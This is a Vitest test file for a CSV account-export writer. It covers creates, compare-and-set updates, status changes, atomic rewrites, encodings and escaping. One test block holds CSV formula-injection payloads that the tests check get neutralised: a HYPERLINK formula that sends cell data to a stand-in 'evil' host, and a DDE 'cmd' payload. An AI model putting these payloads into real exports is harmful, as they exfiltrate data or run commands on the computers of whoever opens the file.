/**
 * The CSV export target, on real temporary files: creates, partial updates, compare-and-set, re-runs
 * after a crash, disable/enable/delete, atomic rewrite, and refusing to rewrite a file it cannot read whole.
 */
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AccountChange, TargetValueChange } from '../../schemas/generated/plan.ts';
import type { CsvConnection } from '../../schemas/generated/config.ts';
import { ProviderError } from '../errors.ts';
import { readCsvAccounts } from './read.ts';
import { applyCsvTarget, type ChangeResult, type CsvWriteOptions } from './write.ts';

const DISPLAY = 'data/crm.csv';
let dir: string;
let path: string;

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'idplane-csv-write-'));
  path = join(dir, 'crm.csv');
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

function options(extra: Partial<CsvWriteOptions> = {}, connection: Omit<CsvConnection, 'path'> = {}): CsvWriteOptions {
  return {
    app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY, ...connection }, key: 'id',
    status: { attribute: 'active', enabled: 'true', disabled: 'false' },
    ...extra,
  };
}

type Attrs = Record<string, [string | null, string | null]>;

function change(action: AccountChange['action'], key: string, attributes: Attrs = {}): AccountChange {
  const changes: Record<string, TargetValueChange> = Object.fromEntries(Object.entries(attributes).map(([name, [from, to]]) => [name, { from, to }]));
  return { action, app: 'crm', key, userId: `u-${key}`, login: `${key}@example.com`, attributes: changes, link: action === 'create', reason: 'test' };
}

const apply = (changes: AccountChange[], extra: Partial<CsvWriteOptions> = {}, connection: Omit<CsvConnection, 'path'> = {}) =>
  applyCsvTarget(options(extra, connection), changes);

/** [action, key, outcome] of every result. */
const outcomes = (results: ChangeResult[]) => results.map((r) => [r.action, r.key, r.outcome]);

async function rows(connection: Omit<CsvConnection, 'path'> = {}): Promise<Record<string, Record<string, string>>> {
  const snap = await readCsvAccounts({ app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY, ...connection }, key: 'id' });
  expect(snap.rowErrors).toEqual([]);
  return Object.fromEntries(snap.accounts.map((a) => [a.key, a.attributes]));
}

const text = () => readFile(path, 'utf8');

const SEED = 'id,userName,title,active\n1,ada@example.com,Engineer,true\n2,alan@example.com,Engineer,true\n';

describe('applyCsvTarget: creates', () => {
  it('appends the row with the key and the status column enabled', async () => {
    await writeFile(path, SEED);
    const results = await apply([change('create', '3', { userName: [null, 'grace@example.com'], title: [null, 'Admiral'] })]);
    expect(results).toEqual([{ app: 'crm', key: '3', action: 'create', outcome: 'done' }]);
    expect(await text()).toBe(`${SEED}3,grace@example.com,Admiral,true\n`);
  });

  it('creates a missing file, with a header naming the key, the attributes and the status column', async () => {
    const results = await apply([
      change('create', '1', { userName: [null, 'ada@example.com'], title: [null, 'Engineer'] }),
      change('create', '2', { userName: [null, 'alan@example.com'] }),
    ]);
    expect(outcomes(results)).toEqual([['create', '1', 'done'], ['create', '2', 'done']]);
    expect(await text()).toBe('id,userName,title,active\n1,ada@example.com,Engineer,true\n2,alan@example.com,,true\n');
  });

  it('a create of a row that is there with the same values is done ("already created"): a re-run after a crash', async () => {
    await writeFile(path, SEED);
    const results = await apply([change('create', '1', { userName: [null, 'ada@example.com'], title: [null, 'Engineer'] })]);
    expect(results).toEqual([{ app: 'crm', key: '1', action: 'create', outcome: 'done', message: 'already created' }]);
    expect(await rows()).toEqual({
      1: { id: '1', userName: 'ada@example.com', title: 'Engineer', active: 'true' },
      2: { id: '2', userName: 'alan@example.com', title: 'Engineer', active: 'true' },
    });
  });

  it('a create of a row that is there with other values is skipped, and the row is kept', async () => {
    await writeFile(path, SEED);
    const results = await apply([change('create', '1', { userName: [null, 'someone@example.com'], title: [null, 'Engineer'] })]);
    expect(outcomes(results)).toEqual([['create', '1', 'skipped']]);
    expect(results[0]!.message).toContain('already exists with other values');
    expect(await text()).toBe(SEED);
  });

  it('a key created twice in one call is created once', async () => {
    await writeFile(path, SEED);
    const twice = change('create', '3', { userName: [null, 'grace@example.com'] });
    expect(outcomes(await apply([twice, twice]))).toEqual([['create', '3', 'done'], ['create', '3', 'done']]);
    expect(Object.keys(await rows())).toEqual(['1', '2', '3']);
  });
});

describe('applyCsvTarget: updates are partial and compare-and-set', () => {
  it('writes only the listed attributes and leaves every other column alone', async () => {
    await writeFile(path, 'id,userName,title,phone,active\n1,ada@example.com,Engineer,+44 1,true\n2,alan@example.com,Engineer,+44 2,true\n');
    const results = await apply([change('update', '1', { title: ['Engineer', 'Fellow'] })]);
    expect(outcomes(results)).toEqual([['update', '1', 'done']]);
    // The other columns keep their values; a phone number's leading + is written as text (formulas.ts).
    expect(await text()).toBe('id,userName,title,phone,active\n1,ada@example.com,Fellow,\'+44 1,true\n2,alan@example.com,Engineer,\'+44 2,true\n');
    const own = await readCsvAccounts({ app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY }, key: 'id', formulasEscaped: true });
    expect(own.accounts.map((a) => a.attributes.phone)).toEqual(['+44 1', '+44 2']);
  });

  it('skips a change whose value moved since the plan (neither from nor to), and keeps the file\'s value', async () => {
    await writeFile(path, SEED.replace('1,ada@example.com,Engineer', '1,ada@example.com,Director'));
    const results = await apply([change('update', '1', { title: ['Engineer', 'Fellow'], userName: ['ada@example.com', 'ada.l@example.com'] })]);
    expect(outcomes(results)).toEqual([['update', '1', 'skipped']]);
    expect(results[0]!.message).toContain('title');
    expect(results[0]!.message).not.toContain('userName');
    // Nothing of the change is written, not even the attribute that had not moved.
    expect((await rows())['1']).toEqual({ id: '1', userName: 'ada@example.com', title: 'Director', active: 'true' });
  });

  it('counts a change already in place as done (a re-run)', async () => {
    await writeFile(path, SEED.replace('1,ada@example.com,Engineer', '1,ada@example.com,Fellow'));
    const results = await apply([change('update', '1', { title: ['Engineer', 'Fellow'] })]);
    expect(outcomes(results)).toEqual([['update', '1', 'done']]);
    expect((await rows())['1']!.title).toBe('Fellow');
  });

  it('treats null as empty on both sides', async () => {
    await writeFile(path, 'id,userName,title,active\n1,ada@example.com,,true\n');
    expect(outcomes(await apply([change('update', '1', { title: [null, 'Fellow'] })]))).toEqual([['update', '1', 'done']]);
    expect((await rows())['1']!.title).toBe('Fellow');
    expect(outcomes(await apply([change('update', '1', { title: ['Fellow', null] })]))).toEqual([['update', '1', 'done']]);
    expect(await text()).toBe('id,userName,title,active\n1,ada@example.com,,true\n');
  });

  it('adds a column for a new attribute, empty for the other rows', async () => {
    await writeFile(path, SEED);
    await apply([change('update', '2', { department: [null, 'Research'] })]);
    expect(await text()).toBe('id,userName,title,active,department\n1,ada@example.com,Engineer,true,\n2,alan@example.com,Engineer,true,Research\n');
  });

  it('fails an update of an account that is no longer in the file, and does not rewrite it', async () => {
    await writeFile(path, SEED);
    const results = await apply([change('update', '9', { title: ['Engineer', 'Fellow'] })]);
    expect(results).toEqual([{ app: 'crm', key: '9', action: 'update', outcome: 'failed', message: 'the account is no longer in the file' }]);
    expect(await text()).toBe(SEED);
  });

  it('applies each change on its own: one skipped change does not stop the others', async () => {
    await writeFile(path, SEED);
    const results = await apply([
      change('update', '1', { title: ['Intern', 'Fellow'] }),
      change('update', '2', { title: ['Engineer', 'Fellow'] }),
      change('update', '9', { title: ['Engineer', 'Fellow'] }),
    ]);
    expect(outcomes(results)).toEqual([['update', '1', 'skipped'], ['update', '2', 'done'], ['update', '9', 'failed']]);
    expect((await rows())['1']!.title).toBe('Engineer');
    expect((await rows())['2']!.title).toBe('Fellow');
  });
});

describe('applyCsvTarget: disable, enable, delete, link', () => {
  const status = { attribute: 'IsActive', enabled: 'Yes', disabled: 'No' };
  const seed = 'id,userName,IsActive\n1,ada@example.com,Yes\n2,alan@example.com,No\n';

  it('disable and enable write the configured status values', async () => {
    await writeFile(path, seed);
    const results = await apply([change('disable', '1'), change('enable', '2')], { status });
    expect(outcomes(results)).toEqual([['disable', '1', 'done'], ['enable', '2', 'done']]);
    expect(await text()).toBe('id,userName,IsActive\n1,ada@example.com,No\n2,alan@example.com,Yes\n');
  });

  it('an enable carries its attribute changes, compare-and-set like an update', async () => {
    await writeFile(path, seed);
    expect(outcomes(await apply([change('enable', '2', { userName: ['x@example.com', 'alan.t@example.com'] })], { status }))).toEqual([['enable', '2', 'skipped']]);
    expect(await text()).toBe(seed);
    expect(outcomes(await apply([change('enable', '2', { userName: ['alan@example.com', 'alan.t@example.com'] })], { status }))).toEqual([['enable', '2', 'done']]);
    expect(await text()).toBe('id,userName,IsActive\n1,ada@example.com,Yes\n2,alan.t@example.com,Yes\n');
  });

  it('a create uses the configured enabled value', async () => {
    await writeFile(path, seed);
    await apply([change('create', '3', { userName: [null, 'grace@example.com'] })], { status });
    expect((await rows())['3']).toEqual({ id: '3', userName: 'grace@example.com', IsActive: 'Yes' });
  });

  it('adds the status column when the file has none', async () => {
    await writeFile(path, 'id,userName\n1,ada@example.com\n');
    await apply([change('disable', '1')]);
    expect(await text()).toBe('id,userName,active\n1,ada@example.com,false\n');
  });

  it('delete removes the row', async () => {
    await writeFile(path, SEED);
    expect(outcomes(await apply([change('delete', '1')]))).toEqual([['delete', '1', 'done']]);
    expect(await text()).toBe('id,userName,title,active\n2,alan@example.com,Engineer,true\n');
  });

  it('a delete of the last row leaves the header', async () => {
    await writeFile(path, 'id,userName,active\n1,ada@example.com,true\n');
    await apply([change('delete', '1')]);
    expect(await text()).toBe('id,userName,active\n');
    // and the header-only file still takes creates
    await apply([change('create', '2', { userName: [null, 'alan@example.com'] })]);
    expect(await text()).toBe('id,userName,active\n2,alan@example.com,true\n');
  });

  it('a link writes nothing: done when the account is there, failed when it is not', async () => {
    await writeFile(path, SEED);
    const results = await apply([change('link', '1', { title: ['Engineer', 'Fellow'] }), change('link', '9')]);
    expect(results).toEqual([
      { app: 'crm', key: '1', action: 'link', outcome: 'done' },
      { app: 'crm', key: '9', action: 'link', outcome: 'failed', message: 'the account is no longer in the file' },
    ]);
    expect(await text()).toBe(SEED);
  });
});

describe('applyCsvTarget: safety of the rewrite', () => {
  it('refuses a file with an unreadable row: throws ProviderError and leaves the file byte-identical', async () => {
    const broken = 'id,userName,title,active\n1,ada@example.com,Engineer,true\n2,alan@example.com,Engineer\n3,grace@example.com,Admiral,true\n';
    await writeFile(path, broken);
    const before = await readFile(path);
    const error = await apply([change('update', '1', { title: ['Engineer', 'Fellow'] }), change('create', '4', { userName: [null, 'dave@example.com'] })]).then(
      () => null,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(ProviderError);
    expect((error as ProviderError).app).toBe('crm');
    expect((error as ProviderError).message).toContain(`${DISPLAY} has 1 row(s) that cannot be read (first: line 3`);
    expect((error as ProviderError).message).toContain('nothing was written');
    expect((await readFile(path)).equals(before)).toBe(true);
    expect(await readdir(dir)).toEqual(['crm.csv']);
  });

  it('leaves no temporary files behind', async () => {
    await writeFile(path, SEED);
    await apply([change('update', '1', { title: ['Engineer', 'Fellow'] }), change('create', '3', { userName: [null, 'grace@example.com'] })]);
    await apply([change('delete', '2')]);
    expect(await readdir(dir)).toEqual(['crm.csv']);
  });

  it('does not rewrite the file when nothing was done', async () => {
    await writeFile(path, 'id ,  userName\n1,  ada@example.com\n');
    await apply([change('update', '1', { userName: ['x', 'y'] }), change('link', '1')], {}, {});
    expect(await text()).toBe('id ,  userName\n1,  ada@example.com\n');
  });

  it('round-trips values with commas, quotes, newlines and surrounding spaces through readCsvAccounts', async () => {
    await writeFile(path, SEED);
    const values = {
      title: 'Engineer, Senior',
      nick: 'Ada "Countess" L',
      address: '12 St James\'s Sq\nLondon',
      crlf: 'first\r\nsecond',
      padded: ' Ada ',
      empty: '',
    };
    const attributes: Attrs = {};
    for (const [k, v] of Object.entries(values)) attributes[k] = [k === 'title' ? 'Engineer' : null, v];
    expect(outcomes(await apply([change('update', '1', attributes)]))).toEqual([['update', '1', 'done']]);
    expect((await rows())['1']).toEqual({ id: '1', userName: 'ada@example.com', active: 'true', ...values });
    expect((await rows())['2']).toEqual({ id: '2', userName: 'alan@example.com', title: 'Engineer', active: 'true', nick: '', address: '', crlf: '', padded: '', empty: '' });
    // And a second pass sees every value in place.
    const again: Attrs = {};
    for (const [k, v] of Object.entries(values)) again[k] = [v, v];
    expect(outcomes(await apply([change('update', '1', again)]))).toEqual([['update', '1', 'done']]);
    expect((await rows())['1']).toEqual({ id: '1', userName: 'ada@example.com', active: 'true', ...values });
  });

  it('honours the connection\'s delimiter and quote', async () => {
    const connection = { delimiter: ';', quote: "'" };
    await writeFile(path, "id;userName;active\n1;'ada;l@example.com';true\n");
    await apply([change('update', '1', { userName: ['ada;l@example.com', "o'brien;x"] })], {}, connection);
    expect(await text()).toBe("id;userName;active\n1;'o''brien;x';true\n");
    expect((await rows(connection))['1']!.userName).toBe("o'brien;x");
  });
});

describe('applyCsvTarget: values a spreadsheet would run as formulas', () => {
  const hostile = { '1': '=HYPERLINK("http://evil/?"&A1,"x")', '2': "+cmd|' /C calc'!A0", '3': '@SUM(1+1)', '4': '-2+3', '5': '\t=1', '6': "'=1" };

  it('are written with a leading apostrophe, read back as they were, and updated compare-and-set', async () => {
    const results = await apply(Object.entries(hostile).map(([key, title]) => change('create', key, { title: [null, title] })));
    expect(results.every((r) => r.outcome === 'done')).toBe(true);
    const file = await text();
    expect(file).toContain(`'=HYPERLINK`);
    expect(file).toContain(`'+cmd`);
    expect(file).toContain(`'@SUM`);
    expect(file).toContain(`'-2+3`);
    expect(file).toContain(`''=1`);
    // No cell of the file starts with what a spreadsheet evaluates.
    for (const line of file.split('\n').slice(1)) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    const read = await rows();
    // As a plain CSV reader sees them: escaped.
    expect(read['1']!.title).toBe(`'${hostile['1']}`);
    // As the target reads its own file: the values it was given.
    const own = await readCsvAccounts({ app: 'crm', path, displayPath: DISPLAY, connection: { path: DISPLAY }, key: 'id', formulasEscaped: true });
    expect(Object.fromEntries(own.accounts.map((a) => [a.key, a.attributes.title]))).toEqual(hostile);
    // An update expecting the value it wrote finds it (no false "changed in the file since the plan").
    const [updated] = await apply([change('update', '1', { title: [hostile['1'], 'Engineer'] })]);
    expect(updated!.outcome).toBe('done');
  });

  it('are written as they are when escapeFormulas is off', async () => {
    await apply([change('create', '1', { title: [null, '=1+1'] })], {}, { escapeFormulas: false });
    expect(await text()).toMatch(/^1,.*=1\+1/m);
    expect(await text()).not.toContain(`'=1+1`);
  });
});

describe('applyCsvTarget: connection.encoding', () => {
  it.each([
    ['latin1', 'Wójcik', Buffer.from([0x57, 0xf3, 0x6a, 0x63, 0x69, 0x6b])],
    ['windows-1252', 'Wójcik – “Ops” €', Buffer.from([0x57, 0xf3, 0x6a, 0x63, 0x69, 0x6b, 0x20, 0x96, 0x20, 0x93, 0x4f, 0x70, 0x73, 0x94, 0x20, 0x80])],
    ['utf-16le', 'Wójcik 東京', Buffer.from('Wójcik 東京', 'utf16le')],
  ] as const)('writes %s bytes and reads them back as written', async (encoding, name, bytes) => {
    const results = await apply([change('create', '7', { userName: [null, 'wojcik@example.com'], title: [null, name] })], {}, { encoding });
    expect(outcomes(results)).toEqual([['create', '7', 'done']]);
    const raw = await readFile(path);
    expect(raw.includes(bytes)).toBe(true);
    if (encoding === 'utf-16le') expect([...raw.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect((await rows({ encoding }))['7']!.title).toBe(name);
  });

  it('fails only the account whose value the encoding cannot hold, naming the character', async () => {
    const results = await apply([
      change('create', '7', { userName: [null, 'a@example.com'], title: [null, 'Łódź office'] }),
      change('create', '8', { userName: [null, 'b@example.com'], title: [null, 'Zürich office'] }),
    ], {}, { encoding: 'windows-1252' });
    expect(outcomes(results)).toEqual([['create', '7', 'failed'], ['create', '8', 'done']]);
    expect(results[0]!.message).toBe('title holds "Ł" (U+0141), which windows-1252 cannot hold (connection.encoding); not written');
    expect(Object.keys(await rows({ encoding: 'windows-1252' }))).toEqual(['8']);
  });
});

describe('applyCsvTarget: columns named like Object.prototype members', () => {
  it('writes an empty cell, not a function, for a created row without a toString or __proto__ value', async () => {
    await writeFile(path, 'id,userName,toString,__proto__,active\n1,ada@example.com,t,p,true\n');
    const results = await apply([change('create', '2', { userName: [null, 'bob@example.com'] })]);
    expect(outcomes(results)).toEqual([['create', '2', 'done']]);
    expect(await text()).toBe('id,userName,toString,__proto__,active\n1,ada@example.com,t,p,true\n2,bob@example.com,,,true\n');
    const updated = await apply([change('update', '2', JSON.parse('{"__proto__":["","q"]}') as Attrs)]);
    expect(outcomes(updated)).toEqual([['update', '2', 'done']]);
    expect((await rows())['2']!.__proto__).toBe('q');
  });
});
